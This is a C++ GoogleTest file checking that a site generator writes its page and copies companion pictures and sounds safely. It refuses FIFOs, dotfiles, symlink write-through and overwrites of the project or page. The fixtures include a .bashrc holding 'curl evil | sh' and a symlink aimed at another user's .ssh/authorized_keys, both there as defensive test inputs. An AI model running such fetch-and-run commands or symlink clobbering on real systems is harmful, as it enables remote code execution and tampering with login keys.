// Writing the page and copying beside it: the page is checked and written before anything is
// copied, every failed copy is reported, and no copy replaces the project, the page, or what
// a link in the page folder leads to.
#include "core/page/CompanionFiles.h"
#include "core/page/PageGenerator.h"

#include "support/GenerateTestUtil.h"
#include "support/HostileFiles.h"
#include "support/MediaBytes.h"

#include <gtest/gtest.h>

using namespace stv;
using namespace stv::test;
namespace fs = std::filesystem;

namespace
{

std::string imageRecord(const std::string &file)
{
    return Rec({ "Image", "u", file, "", "", "", "", "0", "", "0", "", "1", "1" });
}

std::string contentOf(const std::string &path)
{
    std::string bytes;
    bytes = readWholeFile(path).valueOr({});
    return bytes;
}

struct PageFolder : ::testing::Test {
    TempFolder dir;
    Project project;
    FavouriteLists lists;
    PageRequest request;

    void SetUp() override
    {
        fs::create_directories(dir.file("proj/sub"));
        fs::create_directories(dir.file("web"));
        ASSERT_TRUE(writeWholeFile(dir.file("proj/site.stv"), "PROJECT").ok());
        ASSERT_TRUE(writeWholeFile(dir.file("proj/pic.png"), pngBytes("PIC")).ok());
        project.sections = { imageRecord("pic.png"), imageRecord("missing.png") };
        request.importRequested = true;
        request.sourceFolder = dir.file("proj");
        request.projectFile = dir.file("proj/site.stv");
        request.pageFile = dir.file("web/index.html");
    }
    PageResult write(FileCopier &copier)
    {
        return writePageFile(project, lists, {}, request, copier);
    }
};

} // namespace

// A page that cannot be written stops everything before the first copy, with the reason.
TEST_F(PageFolder, NothingIsCopiedWhenThePageCannotBeWritten)
{
    ASSERT_TRUE(writeWholeFile(dir.file("afile"), "x").ok());
    ASSERT_TRUE(makeHostile(Hostile::Fifo, dir.file("web/fifo.html")));
    const struct {
        std::string page;
        std::string reason;
    } cases[] = {
        { dir.file("afile/index.html"), "Not a directory" },
        { dir.file("none/index.html"), "No such file or directory" },
        { dir.file("web/"), "it names a folder, not a file" },
        { dir.file("web"), "it is a folder, not a regular file" },
        { dir.file("web/fifo.html"), "it is a FIFO (named pipe), not a regular file" },
    };
    for (const auto &c : cases) {
        SCOPED_TRACE(c.page);
        request.pageFile = c.page;
        FakeCopier copier;
        const PageResult r = write(copier);
        EXPECT_FALSE(r.ok());
        EXPECT_EQ(r.error(), "Cannot create file " + c.page + ": " + c.reason);
        EXPECT_TRUE(copier.calls.empty());
    }
    EXPECT_EQ(typeAt(dir.file("web/fifo.html")), unsigned(S_IFIFO));
}

// A page that fails after the copies were made (its place taken meanwhile) still reports
// every copy that failed.
TEST_F(PageFolder, FailedCopiesAreReportedWhenThePageFailsLast)
{
    class TakingCopier : public FakeCopier
    {
    public:
        std::string page;
        CopyResult copy(const std::string &from, const std::string &to) override
        {
            fs::create_directory(page); // the page's place becomes a folder
            return FakeCopier::copy(from, to);
        }
    } copier;
    copier.page = request.pageFile;
    const PageResult r = write(copier);
    EXPECT_FALSE(r.ok());
    EXPECT_EQ(r.error().rfind("Cannot create file " + request.pageFile + ": ", 0), 0u) << r.error();
    EXPECT_NE(
        r.error().find("These files could not be copied either:\n\nmissing: "), std::string::npos)
        << r.error();
    EXPECT_NE(r.error().find("missing.png"), std::string::npos);
}

// Pictures named like the project or the page are not copied over them, and a link in the
// page folder is replaced, never written through. A FIFO there is refused.
TEST_F(PageFolder, CopiesNeverReplaceTheProjectThePageOrALinksTarget)
{
    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/site.stv"), "NOT THE PROJECT").ok());
    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/index.html"), "NOT THE PAGE").ok());
    ASSERT_TRUE(writeWholeFile(dir.file("victim"), "VICTIM").ok());
    fs::create_symlink(dir.file("victim"), dir.file("proj/linked.png"));
    fs::create_directories(dir.file("elsewhere"));
    ASSERT_TRUE(writeWholeFile(dir.file("elsewhere/linked.png"), pngBytes("LINKED")).ok());
    ASSERT_TRUE(makeHostile(Hostile::Fifo, dir.file("proj/pipe.png")));
    ASSERT_TRUE(writeWholeFile(dir.file("proj/sub/pipe.png"), pngBytes("P")).ok());

    // The page beside the project, as the command line writes it by default.
    request.pageFile = dir.file("proj/index.html");
    project.sections = { imageRecord("sub/site.stv"), imageRecord("sub/index.html"),
        imageRecord(dir.file("elsewhere/linked.png")), imageRecord("sub/pipe.png") };
    DiskCopier copier;
    const PageResult r = write(copier);
    ASSERT_TRUE(r.ok()) << r.error();
    ASSERT_EQ(r.value().copyFailures.size(), 3u);
    EXPECT_NE(
        r.value().copyFailures[0].find("it would replace the project file"), std::string::npos);
    EXPECT_NE(
        r.value().copyFailures[1].find("it would replace the page itself"), std::string::npos);
    EXPECT_NE(r.value().copyFailures[2].find("pipe.png: it is a FIFO"), std::string::npos);
    EXPECT_EQ(contentOf(dir.file("proj/site.stv")), "PROJECT");
    EXPECT_EQ(contentOf(dir.file("proj/index.html")).substr(0, 6), "<HTML>");
    EXPECT_EQ(contentOf(dir.file("victim")), "VICTIM");
    EXPECT_EQ(typeAt(dir.file("proj/linked.png")), unsigned(S_IFREG));
    EXPECT_EQ(contentOf(dir.file("proj/linked.png")), pngBytes("LINKED"));
    EXPECT_EQ(typeAt(dir.file("proj/pipe.png")), unsigned(S_IFIFO));
}

// Only regular files are copied: a FIFO or a link to /dev/zero given as a picture fails at
// once and nothing is made beside the page.
TEST_F(PageFolder, OnlyRegularFilesAreCopied)
{
    const HangGuard guard;
    ASSERT_TRUE(makeHostile(Hostile::Fifo, dir.file("proj/fifo.png")));
    ASSERT_TRUE(makeHostile(Hostile::LinkToZero, dir.file("proj/zero.png")));
    project.sections = { imageRecord("fifo.png"), imageRecord("zero.png") };
    DiskCopier copier;
    PageResult r = fail("not written");
    printSecondsFor("a page over a FIFO and /dev/zero", [&] { r = write(copier); });
    ASSERT_TRUE(r.ok());
    ASSERT_EQ(r.value().copyFailures.size(), 2u);
    EXPECT_NE(
        r.value().copyFailures[0].find("fifo.png: it is not a regular file"), std::string::npos);
    EXPECT_NE(
        r.value().copyFailures[1].find("zero.png: it is not a regular file"), std::string::npos);
    EXPECT_EQ(typeAt(dir.file("web/fifo.png")), 0u);
    EXPECT_EQ(typeAt(dir.file("web/zero.png")), 0u);
}

std::string soundRecord(const std::string &file)
{
    return Rec({ "PlaySound", "s", file, "1", "1", "1", "1", "0" });
}

// A stranger's project names files to copy beside the page: only pictures where pictures are
// shown and sounds where sounds play are copied; dotfiles, the program's own files, the
// project itself and files of the wrong kind are named in the result and not copied, and the
// page is written all the same.
TEST_F(PageFolder, OnlyPicturesAndSoundsAreCopied)
{
    fs::create_directories(dir.file("skel"));
    ASSERT_TRUE(writeWholeFile(dir.file("skel/.bashrc"), "curl evil | sh\n").ok());
    ASSERT_TRUE(writeWholeFile(dir.file("web/.bashrc"), "MINE").ok());
    ASSERT_TRUE(writeWholeFile(dir.file("proj/StvLinkList"), pngBytes("LIST")).ok());
    ASSERT_TRUE(writeWholeFile(dir.file("web/StvLinkList"), "https://mine/").ok());
    ASSERT_TRUE(writeWholeFile(dir.file("proj/notes.txt"), "text").ok());
    ASSERT_TRUE(writeWholeFile(dir.file("proj/song.wav"), wavBytes("SONG")).ok());
    ASSERT_TRUE(writeWholeFile(dir.file("proj/tone.wav"), wavBytes("TONE")).ok());
    ASSERT_TRUE(writeWholeFile(dir.file("proj/shown.png"), pngBytes("SHOWN")).ok());
    lists.images = { imageRecord(dir.file("skel/.bashrc")) }; // a picture mark's entry
    project.backgroundImage = "notes.txt";
    project.sections = { imageRecord(dir.file("skel/.bashrc")), imageRecord("StvLinkList"),
        imageRecord("site.stv"), imageRecord("song.wav"), soundRecord("shown.png"),
        imageRecord("pic.png"), soundRecord("tone.wav"),
        Rec({ "Paragraph", "p", "{i0}", "2", "0", "0", "0", "0", "0", "", "0", "" }) };
    DiskCopier copier;
    const PageResult r = write(copier);
    ASSERT_TRUE(r.ok()) << r.error();
    const std::vector<std::string> expected = {
        "not a picture: " + dir.file("proj/notes.txt"),
        "a hidden file: " + dir.file("skel/.bashrc"),
        "one of Sitorva's own files: " + dir.file("proj/StvLinkList"),
        "the project file: " + dir.file("proj/site.stv"),
        "not a picture: " + dir.file("proj/song.wav"),
        "not a sound: " + dir.file("proj/shown.png"),
    };
    EXPECT_EQ(r.value().copyFailures, expected);
    EXPECT_EQ(contentOf(dir.file("web/.bashrc")), "MINE");
    EXPECT_EQ(contentOf(dir.file("web/StvLinkList")), "https://mine/");
    for (const char *name : { "site.stv", "notes.txt", "song.wav", "shown.png" })
        EXPECT_EQ(typeAt(dir.file("web/") + name), 0u) << name;
    EXPECT_EQ(contentOf(dir.file("web/pic.png")), pngBytes("PIC"));
    EXPECT_EQ(contentOf(dir.file("web/tone.wav")), wavBytes("TONE"));
    EXPECT_EQ(contentOf(dir.file("web/index.html")).substr(0, 6), "<HTML>");
}

// An archive may bring the page's name as a link to another user's file: the page replaces
// the link and the file it led to stays as it was.
TEST_F(PageFolder, ALinkAtThePagesPlaceIsReplaced)
{
    fs::create_directories(dir.file("victim/.ssh"));
    ASSERT_TRUE(writeWholeFile(dir.file("victim/.ssh/authorized_keys"), "ssh-ed25519 AAAA").ok());
    fs::create_symlink("../victim/.ssh/authorized_keys", dir.file("web/index.html"));
    FakeCopier copier;
    ASSERT_TRUE(write(copier).ok());
    EXPECT_EQ(contentOf(dir.file("victim/.ssh/authorized_keys")), "ssh-ed25519 AAAA");
    EXPECT_EQ(typeAt(dir.file("web/index.html")), unsigned(S_IFREG));
    EXPECT_EQ(contentOf(dir.file("web/index.html")).substr(0, 6), "<HTML>");
}

// The window's proposal: a page's name in the project's folder (the home folder for a project
// never saved), never a bare name the file dialog would put in the program's folder, and
// never a name that is no page's.
TEST(ProposedPageFile, StaysAPageBesideTheProject)
{
    const struct {
        std::string project, stored, proposed;
    } cases[] = {
        { "", "", "/home/u/index.html" },
        { "", "x.php", "/home/u/x.html" },
        { "/w/site.stv", "", "/w/site.html" },
        { "/w/site.stv", "index.html", "/w/index.html" },
        { "/w/site.stv", "pages/a.htm", "/w/a.htm" },
        { "/w/site.stv", ".vimrc", "/w/vimrc.html" },
        { "/w/site.stv", ".htaccess", "/w/htaccess.html" },
        { "/w/site.stv", "/x/b.HTML", "/x/b.HTML" },
        { "/w/site.stv", "/x/.bashrc", "/x/bashrc.html" },
        { "/w/site.stv", "C:\\Web\\Home.html", "/w/Home.html" },
        { "/w/.hidden.stv", "", "/w/hidden.html" },
    };
    for (const auto &c : cases)
        EXPECT_EQ(proposedPageFile(c.project, c.stored, "/home/u"), c.proposed)
            << c.project << " " << c.stored;
}
